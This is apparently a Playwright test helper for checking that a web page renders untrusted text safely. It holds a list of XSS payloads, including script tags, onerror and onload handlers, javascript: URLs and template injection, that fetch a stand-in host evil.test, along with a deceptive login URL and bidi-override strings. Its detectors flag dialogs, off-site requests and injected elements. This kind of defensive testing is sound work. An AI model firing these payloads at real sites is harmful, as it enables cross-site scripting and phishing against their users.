import type { Locator, Page } from "@playwright/test";
import { test } from "./browser";

/** What people send to see whether something gives. Every one of them leads to evil.test when it works. */
export const hostileTexts = [
  `<img src=x onerror="fetch('http://evil.test/1')">`,
  `<script>fetch("http://evil.test/2")</script>`,
  `"><svg onload=fetch('http://evil.test/3')>`,
  `<iframe src="http://evil.test/4"></iframe>`,
  `<style>@import url(http://evil.test/5)</style><link rel=stylesheet href=http://evil.test/6>`,
  `javascript:fetch('http://evil.test/7') data:text/html,<script>fetch("http://evil.test/8")</script>`,
  `*<img src=http://evil.test/9>* _<b onmouseover=alert(1)>x</b>_ \`<u>\` \`\`\`<script>alert(2)</script>\`\`\``,
  `[click](javascript:alert(3)) ![x](http://evil.test/10)`,
  `{{constructor.constructor('alert(4)')()}} \${alert(5)} %3Cscript%3E`,
  `https://bank.example@evil.test/login`,
  `&lt;script&gt;alert(6)&lt;/script&gt;`,
  `\u202Egnp.exe\u202C \u2066isolated\u2069 \u200B\uFEFFinvisible`,
  `Z${"\u0336\u0321\u0344\u0360".repeat(40)}algo`,
  "W".repeat(3000),
  "\n".repeat(400) + "far below",
  "👩‍👩‍👧‍👦".repeat(200),
];

/** Everything by which a page could have been led astray. */
export function watch(page: Page): string[] {
  const seen: string[] = [];
  page.on("dialog", (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(test.info().project.use.baseURL!)) seen.push(`asked ${request.url()}`);
  });
  page.on("popup", (popup) => seen.push(`opened ${popup.url()}`));
  return seen;
}

/** Elements, links and widths that a text has no business to make. */
export const strangeIn = (part: Locator) =>
  part.evaluate((element) => ({
    elements: Array.from(
      element.querySelectorAll("script, iframe, object, embed, [onerror], [onload], img[src='x']"),
    ).filter(
      // The page's own are elsewhere than in its log, and do not begin like this.
      (one) => one.tagName !== "SCRIPT" || element.role === "log" || /^(fetch|alert)/.test(one.textContent),
    ).length,
    links: Array.from(element.querySelectorAll("a"), (link) => link.href).filter(
      (href) => !/^(https?|tel):/.test(href),
    ),
    // A link says where it leads: its words begin with its own host.
    leads: Array.from(element.querySelectorAll("a")).filter(
      (link) =>
        link.host === "evil.test" && !link.textContent.replace(/^(https?:\/\/)/, "").startsWith(link.host),
    ).length,
    wide: document.documentElement.scrollWidth > document.documentElement.clientWidth,
    // Of a name that turns the direction of writing, nothing but itself may be turned.
    turned: Array.from(element.querySelectorAll("*")).filter((one) => {
      const own = Array.from(one.childNodes).some(
        (node) => node.nodeType === Node.TEXT_NODE && /[\u202A-\u202E\u2066-\u2069]/.test(node.textContent!),
      );
      if (!own) return false;
      let box: Element = one;
      while (
        box.parentElement &&
        getComputedStyle(box).display === "inline" &&
        !/isolate|plaintext/.test(getComputedStyle(box).unicodeBidi)
      ) {
        box = box.parentElement;
      }
      return box !== one;
    }).length,
  }));

export const nothingStrange = { elements: 0, links: [], leads: 0, wide: false, turned: 0 };
